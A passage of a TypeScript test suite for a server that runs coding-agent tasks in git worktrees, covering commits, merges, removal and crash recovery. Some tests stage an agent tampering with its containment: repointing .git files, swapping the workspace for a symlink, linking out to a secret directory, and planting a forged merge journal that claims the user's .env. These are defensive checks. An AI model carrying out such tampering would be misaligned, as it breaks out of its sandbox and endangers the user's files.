    git(repo, 'config', '--unset', 'filter.x.clean');
    // A fingerprint without copies (taken before they were kept): any change counts.
    await expect(
      workspaces.commit({ ...ws, gitConfig: { ...ws.gitConfig, copies: undefined } }, 'no copies'),
    ).rejects.toThrow(GitConfigChangedError);
    expect((await workspaces.commit(ws, 'attributes')).changed).toBe(true);
    await workspaces.retire(keepingRemoval(ws, s.gitDir, ws.gitConfig));
    expect(existsSync(copies)).toBe(false);
  });

  it('refuses a workspace in a repository whose hooks or info files are past what it fingerprints', async () => {
    const repo = copyFixtureProject('node-basic', root, 'config-unbounded');
    for (let i = 0; i <= MAX_FINGERPRINT_PATHS; i += 1) {
      writeFileSync(join(repo, '.git', 'info', `f${i}`), '');
    }
    await expect(ready(service(), spec(repo))).rejects.toThrow(
      /info in .* too large \(or too many\)/,
    );
  });

  it('puts back a .git file the agent pointed elsewhere, and never through a workspace swapped for a link', async () => {
    const repo = copyFixtureProject('node-basic', root, 'relinked');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    const user = checkoutFingerprint(repo);
    writeFileSync(join(ws.path, 'work.txt'), 'work\n');
    writeFileSync(join(ws.path, '.git'), `gitdir: ${s.gitDir}\n`);
    const kept = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'work');
    expect(checkoutFingerprint(repo)).toEqual(user);
    expect(git(repo, 'rev-parse', ws.branch).trim()).toBe(kept.commit);
    expect(git(repo, 'show', '--name-only', '--format=', kept.commit).trim()).toBe('work.txt');
    // The workspace swapped for a link to another repository, its entry pointed there too (what
    // an agent that may write the git directory could do): the other repository's .git stays.
    const other = copyFixtureProject('node-basic', root, 'relinked-other');
    const entry = git(ws.path, 'rev-parse', '--absolute-git-dir').trim();
    renameSync(ws.path, `${ws.path}.moved`);
    symlinkSync(other, ws.path);
    writeFileSync(join(entry, 'gitdir'), `${join(other, '.git')}\n`);
    await expect(workspaces.restoreGitLink({ ...ws, gitDir: s.gitDir })).rejects.toThrow(
      WorkspaceError,
    );
    expect(git(other, 'rev-parse', '--git-dir').trim()).toBe('.git');
  });

  it('re-attaches to an existing workspace, and checks a lost one out again from its branch', async () => {
    const repo = copyFixtureProject('node-basic', root, 'reattach');
    const workspaces = service();
    const s = spec(repo);
    const first = await workspaces.prepare(s);
    writeFileSync(join(first.path, 'wip.txt'), 'uncommitted\n');
    const again = await workspaces.prepare({
      ...s,
      branch: first.branch,
      workspacePath: first.path,
    });
    expect(again).toEqual({ ...first, created: false });
    expect(readFileSync(join(again.path, 'wip.txt'), 'utf8')).toBe('uncommitted\n');

    await workspaces.commit({ ...first, gitDir: s.gitDir, gitConfig: null }, 'committed work');
    rmSync(first.path, { recursive: true, force: true });
    const remade = await workspaces.prepare({
      ...s,
      branch: first.branch,
      workspacePath: first.path,
    });
    expect(remade).toEqual({ ...first, created: true });
    expect(readFileSync(join(remade.path, 'wip.txt'), 'utf8')).toBe('uncommitted\n');
    expect(linkedWorktrees(repo)).toEqual([first.path]);
  });

  /** This instance's workspaces, and those of another whose WORKSPACES_DIR is elsewhere. */
  function twoInstances(): { here: WorkspacesService; other: WorkspacesService } {
    return {
      here: service(),
      other: service(
        undefined,
        loadConfig({ WORKSPACES_DIR: join(root, 'other-instance-workspaces') }),
      ),
    };
  }

  it("re-attaches to a task's workspace under another instance's WORKSPACES_DIR, and removes it as the task's worktree only", async () => {
    const repo = copyFixtureProject('node-basic', root, 'other-root');
    const { here, other } = twoInstances();
    const s = spec(repo);
    const first = await here.prepare(s);
    writeFileSync(join(first.path, 'wip.txt'), 'uncommitted\n');
    const recorded = { ...s, branch: first.branch, workspacePath: first.path };
    expect(other.locate(recorded)).toBe(first.path);
    const again = await other.prepare(recorded);
    expect(again).toEqual({ ...first, created: false });
    expect(readFileSync(join(again.path, 'wip.txt'), 'utf8')).toBe('uncommitted\n');
    expect(linkedWorktrees(repo)).toEqual([first.path]);

    // Its .git file pointed elsewhere by the agent is put back there too.
    writeFileSync(join(again.path, '.git'), `gitdir: ${s.gitDir}\n`);
    await other.restoreGitLink({ ...again, gitDir: s.gitDir, gitConfig: null });
    expect(git(again.path, 'rev-parse', '--abbrev-ref', 'HEAD').trim()).toBe(first.branch);

    // Not the task's branch, or not its repository's worktree: left as it is.
    for (const wrong of [
      { branch: 'master' },
      { gitDir: realpathSync(join(copyFixtureProject('node-basic', root, 'other-repo'), '.git')) },
    ]) {
      await expect(other.retire({ ...keepingRemoval(again, s.gitDir), ...wrong })).rejects.toThrow(
        /is not a workspace inside .*; left as it is/,
      );
    }
    expect(readFileSync(join(again.path, 'wip.txt'), 'utf8')).toBe('uncommitted\n');

    const removed = await other.retire(keepingRemoval(again, s.gitDir));
    expect(removed.keptCommit).toBe(git(repo, 'rev-parse', first.branch).trim());
    expect(git(repo, 'show', `${first.branch}:wip.txt`)).toBe('uncommitted\n');
    expect(existsSync(first.path)).toBe(false);
    expect(readdirSync(config.WORKSPACES_DIR).filter((n) => n.includes(s.taskId))).toEqual([]);
    expect(linkedWorktrees(repo)).toEqual([]);
  });

  it('checks a task out again in its own directory from its branch when the workspace it recorded elsewhere is gone; with its branch gone too, checks nothing out and says what is missing', async () => {
    const repo = copyFixtureProject('node-basic', root, 'other-root-gone');
    const { here, other } = twoInstances();
    const s = spec(repo);
    const first = await here.prepare(s);
    writeFileSync(join(first.path, 'wip.txt'), 'committed\n');
    await here.commit({ ...first, gitDir: s.gitDir, gitConfig: null }, 'committed work');
    // Its directory lost; git still lists it, its branch checked out there.
    rmSync(first.path, { recursive: true, force: true });
    const recorded = { ...s, branch: first.branch, workspacePath: first.path };
    const remade = await other.prepare(recorded);
    expect(remade.path).toBe(other.pathFor(s.taskId));
    expect(remade).toMatchObject({ branch: first.branch, created: true });
    expect(readFileSync(join(remade.path, 'wip.txt'), 'utf8')).toBe('committed\n');
    expect(linkedWorktrees(repo)).toEqual([remade.path]);

    const lost = spec(repo);
    const elsewhere = join(root, 'other-machine', lost.taskId);
    const failed = other.prepare({ ...lost, branch: 'cta/lost-branch', workspacePath: elsewhere });
    await expect(failed).rejects.toThrow(WorkspaceMissingError);
    await expect(failed).rejects.toThrow(
      `the task's workspace ${elsewhere} and its branch cta/lost-branch are not on this server (${hostname()})`,
    );
    expect(git(repo, 'branch', '--list', 'cta/lost-branch')).toBe('');
    expect(linkedWorktrees(repo)).toEqual([remade.path]);
    expect(existsSync(other.pathFor(lost.taskId))).toBe(false);
  });

  it('removes an index lock a killed git left in the workspace, unless a process works there', async () => {
    const repo = copyFixtureProject('node-basic', root, 'stale-lock');
    const workspaces = service();
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    const lock = join(git(ws.path, 'rev-parse', '--absolute-git-dir').trim(), 'index.lock');
    const reattach = () => workspaces.prepare({ ...s, branch: ws.branch, workspacePath: ws.path });
    // A process working in the workspace may be the lock's holder: the lock stays.
    writeFileSync(lock, '');
    const holder = spawn('sleep', ['60'], { cwd: ws.path, stdio: 'ignore' });
    try {
      await eventually('the holder working in the workspace', () => {
        try {
          return readlinkSync(`/proc/${holder.pid}/cwd`) === ws.path;
        } catch {
          return false;
        }
      });
      await reattach();
      expect(existsSync(lock)).toBe(true);
    } finally {
      holder.kill('SIGKILL');
      await new Promise((resolve) => holder.once('exit', resolve));
    }
    // Nobody works there: re-attaching after a restart removes it, and so does the commit.
    await reattach();
    expect(existsSync(lock)).toBe(false);
    writeFileSync(lock, '');
    writeFileSync(join(ws.path, 'wip.txt'), 'work of a killed run\n');
    const kept = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'kept');
    expect(git(repo, 'show', `${kept.commit}:wip.txt`)).toBe('work of a killed run\n');
    expect(existsSync(lock)).toBe(false);
  });

  it("removes the scratch checkouts a killed server left, and their entries, never a live server's", async () => {
    const repo = copyFixtureProject('node-basic', root, 'scratch-orphans');
    const scratch = scratchCheckouts();
    const live = await scratch.checkout({ cwd: repo }, git(repo, 'rev-parse', 'HEAD').trim(), []);
    // A server that is gone: a process that ran and ended; its checkout as checkout() makes one.
    const deadPid = spawnSync('true').pid;
    const orphan = mkdtempSync(join(tmpdir(), `cta-base-${deadPid}-`));
    git(repo, 'worktree', 'add', '--quiet', '--detach', join(orphan, 'checkout'), 'HEAD');
    // Another test file's server sweeping the same temporary directory may take it first: what
    // counts is that it and its entry are gone, and the live one is not.
    await scratch.removeOrphans();
    expect(existsSync(orphan)).toBe(false);
    // A diff's temporary index and order file, the ref guard's hooks, the configuration files
    // handed to git for a comparison and the empty directory git ran in, the same way.
    const leftovers = [
      'cta-index-',
      'cta-order-',
      'cta-hooks-',
      'cta-git-config-',
      'cta-git-cwd-',
    ].map((prefix) => mkdtempSync(join(tmpdir(), `${prefix}${deadPid}-`)));
    writeFileSync(join(leftovers[0], 'index'), 'a large index copy');
    await diffService(NO_ISOLATION).removeOrphans();
    await new RefGuard(NO_ISOLATION).removeOrphans();
    await gitConfigGuard(new Git(config, launcher, NO_ISOLATION), NO_ISOLATION).removeOrphans();
    await new Git(config, launcher, NO_ISOLATION).removeOrphans();
    expect(leftovers.filter((dir) => existsSync(dir))).toEqual([]);
    expect(linkedWorktrees(repo)).toEqual([live.directory]);
    await live.remove();
    expect(linkedWorktrees(repo)).toEqual([]);
  });

  it("gives a base commit's checkout the work tree's installed packages, a monorepo's own as of that commit, and follows no link out", async () => {
    const repo = copyFixtureProject('node-basic', root, 'scratch-deps');
    writeFileSync(join(repo, '.gitignore'), 'node_modules/\n');
    mkdirSync(join(repo, 'packages', 'util'), { recursive: true });
    writeFileSync(join(repo, 'packages', 'util', 'index.js'), 'exports.at = "base";\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'monorepo');
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    writeFileSync(join(repo, 'packages', 'util', 'index.js'), 'exports.at = "change";\n');
    const secret = join(root, 'secret');
    mkdirSync(secret, { recursive: true });
    writeFileSync(join(secret, 'key'), 'not for tests');
    // Installed: a package, a scoped one, the workspace package linked, and a link out.
    for (const dir of ['node_modules/lib', 'node_modules/@scope/pkg']) {
      mkdirSync(join(repo, dir), { recursive: true });
      writeFileSync(join(repo, dir, 'index.js'), 'exports.ok = true;\n');
    }
    symlinkSync('../packages/util', join(repo, 'node_modules', 'util'));
    symlinkSync(secret, join(repo, 'node_modules', 'leak'));
    // A .venv that is a link out is not followed at all.
    symlinkSync(secret, join(repo, '.venv'));
    const scratch = scratchCheckouts();
    const checkout = await scratch.checkout({ cwd: repo }, base, ['test/math.test.js']);
    try {
      expect(checkout.linkDependencies()).toEqual([join(repo, 'node_modules')]);
      const modules = join(checkout.directory, 'node_modules');
      expect(readFileSync(join(modules, 'lib', 'index.js'), 'utf8')).toBe('exports.ok = true;\n');
      expect(readFileSync(join(modules, '@scope', 'pkg', 'index.js'), 'utf8')).toBe(
        'exports.ok = true;\n',
      );
      expect(readFileSync(join(modules, 'util', 'index.js'), 'utf8')).toBe(
        'exports.at = "base";\n',
      );
      expect(existsSync(join(modules, 'leak'))).toBe(false);
      expect(existsSync(join(checkout.directory, '.venv'))).toBe(false);
    } finally {
      await checkout.remove();
    }
    expect(readFileSync(join(repo, 'node_modules', 'lib', 'index.js'), 'utf8')).toBe(
      'exports.ok = true;\n',
    );
  });

  it("links each package's installed dependencies into a checkout given the package manifests git tracks (a monorepo's regression suite)", async () => {
    const repo = copyFixtureProject('node-basic', root, 'scratch-package-deps');
    writeFileSync(join(repo, '.gitignore'), 'node_modules/\n');
    mkdirSync(join(repo, 'packages', 'api'), { recursive: true });
    writeFileSync(join(repo, 'packages', 'api', 'package.json'), '{"name":"api"}\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'monorepo');
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    for (const dir of ['node_modules/lib', 'packages/api/node_modules/api-lib']) {
      mkdirSync(join(repo, dir), { recursive: true });
      writeFileSync(join(repo, dir, 'index.js'), 'exports.ok = true;\n');
    }
    const scratch = scratchCheckouts();
    const manifests = await scratch.packageManifests({ cwd: repo });
    expect(manifests).toEqual(expect.arrayContaining(['packages/api/package.json']));
    const alone = await scratch.changeWithBaseFiles({ cwd: repo }, base, [], ['test/math.test.js']);
    try {
      expect(alone.linkDependencies()).toEqual([join(repo, 'node_modules')]);
    } finally {
      await alone.remove();
    }
    const checkout = await scratch.changeWithBaseFiles(
      { cwd: repo },
      base,
      [],
      ['test/math.test.js', ...manifests],
    );
    try {
      expect([...checkout.linkDependencies()].sort()).toEqual([
        join(repo, 'node_modules'),
        join(repo, 'packages', 'api', 'node_modules'),
      ]);
      expect(
        readFileSync(
          join(checkout.directory, 'packages', 'api', 'node_modules', 'api-lib', 'index.js'),
          'utf8',
        ),
      ).toBe('exports.ok = true;\n');
    } finally {
      await checkout.remove();
    }
  });

  it("lists a test directory's support files deleted or renamed away, and its __init__.py deleted as a test file", async () => {
    const repo = copyFixtureProject('python-basic', root, 'support-deleted');
    writeFileSync(join(repo, 'tests', '__init__.py'), '');
    writeFileSync(join(repo, 'tests', 'helpers.py'), 'def two():\n    return 2\n');
    writeFileSync(join(repo, 'tests', 'data.json'), '{}\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'support');
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    rmSync(join(repo, 'tests', '__init__.py'));
    rmSync(join(repo, 'tests', 'helpers.py'));
    git(repo, 'mv', 'tests/data.json', 'data.json');
    const plainGit = new Git(config, launcher, NO_ISOLATION);
    const { files: changes, support } = await new BaseCheckout(
      plainGit,
      new RepositoryLocks(config),
      new WorkspaceDiffService(plainGit, config, NO_ISOLATION),
      NO_ISOLATION,
    ).testChanges({ cwd: repo }, base);
    expect(changes).toEqual([{ status: 'deleted', path: 'tests/__init__.py' }]);
    expect([...support.files].sort()).toEqual([
      'tests/__init__.py',
      'tests/data.json',
      'tests/helpers.py',
    ]);
    expect(support.tests).toContain('tests/test_existing.py');
  });

  it("lists a change's test configuration as modified, once: created, changed, deleted or renamed away", async () => {
    const repo = copyFixtureProject('python-basic', root, 'test-config-changes');
    writeFileSync(join(repo, 'pytest.ini'), '[pytest]\naddopts = -ra\n');
    writeFileSync(join(repo, 'tox.ini'), '[pytest]\ntestpaths = tests\n');
    writeFileSync(join(repo, 'package.json'), '{"scripts":{"test":"node --test"}}\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'config');
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    const hook = 'def pytest_runtest_makereport(item, call):\n    pass\n';
    const existing = readFileSync(join(repo, 'tests', 'test_existing.py'), 'utf8');
    writeFileSync(join(repo, 'tests', 'test_existing.py'), `${existing}\n\n${hook}`);
    rmSync(join(repo, 'pytest.ini'));
    git(repo, 'mv', 'tox.ini', 'tox.ini.bak');
    writeFileSync(join(repo, 'package.json'), '{"scripts":{"test":"node --test a.test.js"}}\n');
    writeFileSync(join(repo, 'tests', 'conftest.py'), 'collect_ignore = ["test_existing.py"]\n');
    const counting = new CountingGit(config, launcher, NO_ISOLATION);
    const { files: changes, support } = await new BaseCheckout(
      counting,
      new RepositoryLocks(config),
      new WorkspaceDiffService(counting, config, NO_ISOLATION),
      NO_ISOLATION,
    ).testChanges({ cwd: repo }, base, [
      'package.json',
      'tests/conftest.py',
      'tests/test_existing.py',
    ]);
    expect(support).toEqual({ files: [], tests: [] });
    expect(changes).toEqual([
      { status: 'modified', path: 'pytest.ini', before: '[pytest]\naddopts = -ra\n', after: '' },
      {
        status: 'modified',
        path: 'tests/test_existing.py',
        before: existing,
        after: `${existing}\n\n${hook}`,
      },
      { status: 'modified', path: 'tox.ini', before: '[pytest]\ntestpaths = tests\n', after: '' },
      {
        status: 'modified',
        path: 'package.json',
        before: '{"scripts":{"test":"node --test"}}\n',
        after: '{"scripts":{"test":"node --test a.test.js"}}\n',
      },
      {
        status: 'modified',
        path: 'tests/conftest.py',
        before: '',
        after: 'collect_ignore = ["test_existing.py"]\n',
      },
    ]);
    // One diff, and one show per file as it was at the base commit.
    expect(counting.calls).toEqual(['diff', 'show', 'show', 'show', 'show', 'show']);
  });

  it('redoes a creation cut off by a crash, and leaves a recorded workspace git no longer knows', async () => {
    const repo = copyFixtureProject('node-basic', root, 'cut-off');
    const workspaces = service();
    const s = spec(repo);
    const path = join(config.WORKSPACES_DIR, s.taskId);
    // What a `git worktree add` killed half-way leaves: registered, locked "initializing".
    git(repo, 'worktree', 'add', '-q', '-b', `cta/${s.taskId.slice(0, 8)}-add-a-helper`, path);
    git(repo, 'worktree', 'lock', '--reason', 'initializing', path);
    const ws = await ready(workspaces, s);
    expect(ws.created).toBe(true);
    expect(git(repo, 'worktree', 'list', '--porcelain')).not.toContain('locked');
    // On the branch the cut-off creation made, not a second one beside it.
    expect(ws.branch).toBe(`cta/${s.taskId.slice(0, 8)}-add-a-helper`);
    expect(git(repo, 'branch', '--list', 'cta/*').trim().split('\n')).toHaveLength(1);

    const other = spec(repo);
    const stray = join(config.WORKSPACES_DIR, other.taskId);
    mkdirSync(stray, { recursive: true });
    writeFileSync(join(stray, 'precious.txt'), 'not git');
    await expect(
      workspaces.prepare({ ...other, branch: 'cta/x', workspacePath: stray }),
    ).rejects.toThrow(WorkspaceError);
    expect(readFileSync(join(stray, 'precious.txt'), 'utf8')).toBe('not git');
  });

  it('removes a workspace by renaming it away first; a removal cut off after that is finished without committing anything', async () => {
    const repo = copyFixtureProject('node-basic', root, 'removal');
    const workspaces = service();
    const s = spec(repo);
    const ws = await ready(workspaces, s);
    writeFileSync(join(ws.path, 'wip.txt'), 'uncommitted\n');
    const removed = await workspaces.retire(keepingRemoval(ws, s.gitDir));
    expect(removed.keptCommit).not.toBeNull();
    expect(git(repo, 'show', `${ws.branch}:wip.txt`)).toBe('uncommitted\n');
    expect(readdirSync(config.WORKSPACES_DIR).filter((n) => n.includes(s.taskId))).toEqual([]);
    expect(linkedWorktrees(repo)).toEqual([]);

    // A server stopped half-way through a removal: the directory renamed, part of it deleted.
    const cut = spec(repo);
    const second = await workspaces.prepare(cut);
    const tip = git(repo, 'rev-parse', second.branch).trim();
    const removing = join(config.WORKSPACES_DIR, `.removing-${cut.taskId}`);
    renameSync(second.path, removing);
    rmSync(join(removing, 'src'), { recursive: true });
    expect(await workspaces.finishRemovals()).toBe(1);
    expect(existsSync(removing)).toBe(false);
    expect(linkedWorktrees(repo)).toEqual([]);
    // Its branch is as it was: the deletions were never committed, and it is free to check out.
    expect(git(repo, 'rev-parse', second.branch).trim()).toBe(tip);
    expect(await workspaces.retire(keepingRemoval(second, cut.gitDir))).toEqual({
      keptCommit: null,
      branchDeleted: false,
    });
    expect(git(repo, 'rev-parse', second.branch).trim()).toBe(tip);
  });

  it('refuses to merge into a branch checked out in a worktree whose directory is gone, saying how git forgets it; merges once it has', async () => {
    const repo = copyFixtureProject('node-basic', root, 'merge-gone-holder');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    writeFileSync(join(ws.path, 'feature.txt'), 'feature\n');
    const { commit } = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'feature');
    const master = git(repo, 'rev-parse', 'HEAD').trim();
    const elsewhere = join(root, 'merge-gone-holder-release');
    git(repo, 'worktree', 'add', '-q', '-b', 'release', elsewhere, master);
    rmSync(elsewhere, { recursive: true, force: true });
    const merges = new WorkspaceMergeService(
      new Git(config, launcher, NO_ISOLATION),
      new RepositoryLocks(config),
      workspaces,
      new WorkspaceRoot(config, NO_ISOLATION),
    );
    const records = { ensure: () => Promise.resolve(), record: () => Promise.resolve() };
    const merge = () =>
      merges.merge(
        {
          gitDir: s.gitDir,
          base: s.baseCommit,
          source: commit,
          sourceBranch: ws.branch,
          target: 'release',
          strategy: 'merge',
          message: 'merge',
          gitConfig: ws.gitConfig,
          expectedTarget: null,
        },
        records,
      );
    await expect(merge()).rejects.toMatchObject({
      code: 'workspace_unavailable',
      details: { worktree: elsewhere },
      message: expect.stringContaining('worktree prune') as unknown,
    });
    expect(git(repo, 'rev-parse', 'release').trim()).toBe(master);
    git(repo, 'worktree', 'prune');
    const outcome = await merge();
    expect(git(repo, 'rev-parse', 'release').trim()).toBe(outcome.commit);
    expect(outcome.updatedWorktree).toBeNull();
  });

  /**
   * A task's change committed in a workspace of `repo` (`file` written with `content`), and a
   * merge of it into `target`.
   */
  async function committedChange(repo: string, file = 'feature.txt', content = 'feature\n') {
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    writeFileSync(join(ws.path, file), content);
    const { commit } = await workspaces.commit(ws, 'feature');
    const merges = new WorkspaceMergeService(
      new Git(config, launcher, NO_ISOLATION),
      new RepositoryLocks(config),
      workspaces,
      new WorkspaceRoot(config, NO_ISOLATION),
    );
    const records = { ensure: () => Promise.resolve(), record: () => Promise.resolve() };
    return (target: string) =>
      merges.merge(
        {
          gitDir: s.gitDir,
          base: s.baseCommit,
          source: commit,
          sourceBranch: ws.branch,
          target,
          strategy: 'merge',
          message: 'merge',
          gitConfig: ws.gitConfig,
          expectedTarget: null,
        },
        records,
      );
  }

  it('merges into a checkout whose file the change rewrites was only touched (its index not refreshed since)', async () => {
    const repo = copyFixtureProject('node-basic', root, 'merge-touched');
    const changed = 'module.exports = { add: (a, b) => a + b, multiply: (a, b) => a * b };\n';
    const merge = await committedChange(repo, 'src/math.js', changed);
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    // A `touch`: same content, a new modification time the index has not seen.
    const later = new Date(Date.now() + 60_000);
    utimesSync(join(repo, 'src/math.js'), later, later);
    const outcome = await merge(branch);
    expect(outcome.updatedWorktree).toBe(repo);
    expect(readFileSync(join(repo, 'src/math.js'), 'utf8')).toBe(changed);
    expect(git(repo, 'status', '--porcelain', '--untracked-files=all')).toBe('');
  });

  it("merges a change that makes a tracked file a directory and a directory a file into the checkout, unless the directory holds the user's ignored file", async () => {
    const repo = copyFixtureProject('node-basic', root, 'merge-file-to-dir');
    writeFileSync(join(repo, 'docs'), 'docs\n');
    mkdirSync(join(repo, 'lib'));
    writeFileSync(join(repo, 'lib', 'a.js'), 'a\n');
    writeFileSync(join(repo, '.gitignore'), '*.log\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'docs and lib');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    rmSync(join(ws.path, 'docs'));
    mkdirSync(join(ws.path, 'docs'));
    writeFileSync(join(ws.path, 'docs', 'index.md'), 'index\n');
    rmSync(join(ws.path, 'lib'), { recursive: true });
    writeFileSync(join(ws.path, 'lib'), 'lib\n');
    const { commit } = await workspaces.commit(ws, 'docs a directory, lib a file');
    const merges = new WorkspaceMergeService(
      new Git(config, launcher, NO_ISOLATION),
      new RepositoryLocks(config),
      workspaces,
      new WorkspaceRoot(config, NO_ISOLATION),
    );
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const tip = git(repo, 'rev-parse', branch).trim();
    const merge = () =>
      merges.merge(
        {
          gitDir: s.gitDir,
          base: s.baseCommit,
          source: commit,
          sourceBranch: ws.branch,
          target: branch,
          strategy: 'merge',
          message: 'merge',
          gitConfig: ws.gitConfig,
          expectedTarget: null,
        },
        { ensure: () => Promise.resolve(), record: () => Promise.resolve() },
      );
    writeFileSync(join(repo, 'lib', 'build.log'), "the user's\n");
    await expect(merge()).rejects.toMatchObject({
      code: ErrorCode.WorkingTreeDirty,
      details: { files: ['lib'] },
    });
    expect(git(repo, 'rev-parse', branch).trim()).toBe(tip);
    expect(readFileSync(join(repo, 'lib', 'build.log'), 'utf8')).toBe("the user's\n");
    rmSync(join(repo, 'lib', 'build.log'));
    const outcome = await merge();
    expect(outcome.updatedWorktree).toBe(repo);
    expect(readFileSync(join(repo, 'docs', 'index.md'), 'utf8')).toBe('index\n');
    expect(readFileSync(join(repo, 'lib'), 'utf8')).toBe('lib\n');
    expect(git(repo, 'status', '--porcelain', '--untracked-files=all')).toBe('');
  });

  it('refuses a target that is a symbolic ref, naming its branch: the checked-out branch it names does not move under its checkout', async () => {
    const repo = copyFixtureProject('node-basic', root, 'merge-symref');
    const merge = await committedChange(repo);
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const tip = git(repo, 'rev-parse', branch).trim();
    git(repo, 'symbolic-ref', 'refs/heads/alias', `refs/heads/${branch}`);
    await expect(merge('alias')).rejects.toMatchObject({
      code: 'merge_target_invalid',
      details: { target_branch: 'alias', symbolic_ref_to: `refs/heads/${branch}` },
    });
    expect(git(repo, 'rev-parse', branch).trim()).toBe(tip);
    expect(git(repo, 'symbolic-ref', 'refs/heads/alias').trim()).toBe(`refs/heads/${branch}`);
    expect(git(repo, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    const outcome = await merge(branch);
    expect(outcome.updatedWorktree).toBe(repo);
    expect(readFileSync(join(repo, 'feature.txt'), 'utf8')).toBe('feature\n');
  });

  it('refuses a target that a worktree of the repository is rebasing or bisecting, as git does, until it has ended', async () => {
    const repo = copyFixtureProject('node-basic', root, 'merge-rebasing');
    writeFileSync(join(repo, 'second.txt'), 'second\n');
    git(repo, 'add', 'second.txt');
    git(repo, 'commit', '-q', '-m', 'second');
    const merge = await committedChange(repo);
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const tip = git(repo, 'rev-parse', branch).trim();
    // `git rebase -i HEAD~1` stopped at an `edit`: HEAD detached, the branch named in the state.
    const rebase = spawnSync('git', ['rebase', '-q', '-i', 'HEAD~1'], {
      cwd: repo,
      env: { ...process.env, GIT_SEQUENCE_EDITOR: 'sed -i -e 1s/^pick/edit/' },
    });
    expect(rebase.status).toBe(0);
    await expect(merge(branch)).rejects.toMatchObject({
      code: 'merge_refused',
      details: {
        reason: 'target_being_rebased',
        file: join(repo, '.git', 'rebase-merge', 'head-name'),
      },
    });
    expect(git(repo, 'rev-parse', branch).trim()).toBe(tip);
    git(repo, 'rebase', '--continue');
    expect(git(repo, 'rev-parse', branch).trim()).toBe(tip);

    const release = join(root, 'merge-rebasing-release');
    git(repo, 'worktree', 'add', '-q', '-b', 'release', release, tip);
    git(release, 'bisect', 'start');
    await expect(merge('release')).rejects.toMatchObject({
      code: 'merge_refused',
      details: { reason: 'target_being_bisected' },
    });
    git(release, 'bisect', 'reset');
    const outcome = await merge('release');
    expect(outcome.updatedWorktree).toBe(release);
    expect(readFileSync(join(release, 'feature.txt'), 'utf8')).toBe('feature\n');
  });

  it("names the merge journal in a merge_interrupted refusal, so that one an agent planted (claiming the user's .env) can be told apart and removed", async () => {
    const repo = copyFixtureProject('node-basic', root, 'merge-planted-journal');
    const merge = await committedChange(repo);
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const tip = git(repo, 'rev-parse', branch).trim();
    // What an agent can write into the repository's git directory: a journal naming the user's
    // checkout and a commit of its own that adds .env, which the user has, untracked.
    writeFileSync(join(repo, '.env'), "SECRET=the user's\n");
    const blob = git(repo, 'hash-object', '-w', join(repo, '.env')).trim();
    const withEnv = spawnSync('git', ['mktree'], {
      cwd: repo,
      input: `${git(repo, 'ls-tree', tip)}100644 blob ${blob}\t.env\n`,
      encoding: 'utf8',
    }).stdout.trim();
    const planted = git(repo, 'commit-tree', withEnv, '-p', tip, '-m', 'planted').trim();
    const journal = join(repo, '.git', MERGE_JOURNAL_NAME);
    writeFileSync(
      journal,
      JSON.stringify({ worktree: repo, target: branch, previous: tip, commit: planted }),
    );
    await expect(merge(branch)).rejects.toMatchObject({
      code: 'merge_refused',
      details: { reason: 'merge_interrupted', worktree: repo, journal },
      message: expect.stringContaining(`${journal}, in the repository's git directory`) as unknown,
    });
    rmSync(journal);
    const outcome = await merge(branch);
    expect(git(repo, 'rev-parse', branch).trim()).toBe(outcome.commit);
    expect(readFileSync(join(repo, '.env'), 'utf8')).toBe("SECRET=the user's\n");
  });

  it("says a merge whose update of the user's checkout was cut off (its git killed) was, and moves nothing", async () => {
    const repo = copyFixtureProject('node-basic', root, 'merge-cut');
    const s = spec(repo);
    const workspaces = service();
    const ws = await ready(workspaces, s);
    writeFileSync(join(ws.path, 'feature.txt'), 'feature\n');
    const { commit } = await workspaces.commit({ ...ws, gitDir: s.gitDir }, 'feature');
    const master = git(repo, 'rev-parse', 'HEAD').trim();
    /** git whose `read-tree` ends as killed by a signal (a stopped server's, or its helper's). */
    class KilledReadTree extends Git {
      override run(args: readonly string[], options: GitOptions): Promise<GitResult> {
        if (args[0] !== 'read-tree') return super.run(args, options);
        return Promise.resolve({
          exitCode: null,
          stdout: Buffer.alloc(0),
          stderr: '',
          truncated: false,
        });
      }
    }
    const merges = new WorkspaceMergeService(
      new KilledReadTree(config, launcher, NO_ISOLATION),
      new RepositoryLocks(config),
      workspaces,
      new WorkspaceRoot(config, NO_ISOLATION),
    );
    const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
    const records = { ensure: () => Promise.resolve(), record: () => Promise.resolve() };
    await expect(
      merges.merge(
        {
          gitDir: s.gitDir,
          base: s.baseCommit,
          source: commit,
          sourceBranch: ws.branch,
          target: branch,
          strategy: 'merge',
          message: 'merge',
          gitConfig: ws.gitConfig,
          expectedTarget: null,
        },
        records,
      ),
    ).rejects.toMatchObject({
      code: 'merge_refused',
      details: { reason: 'worktree_update_interrupted', worktree: repo },
      message: expect.stringContaining(`${branch} was not moved`),
    });
    expect(git(repo, 'rev-parse', 'HEAD').trim()).toBe(master);
  });

  /**
   * A merge into the checked-out branch of `name`'s copy of node-basic (a new file and an edited
   * one) by a server killed after it moved the checkout and before it moved the ref: its git's
   * `update-ref` never comes (the server is gone; its lock is free again, as a dead holder's is).
   */
  async function mergeCutBeforeRef(name: string) {
    const repo = copyFixtureProject('node-basic', root, name);
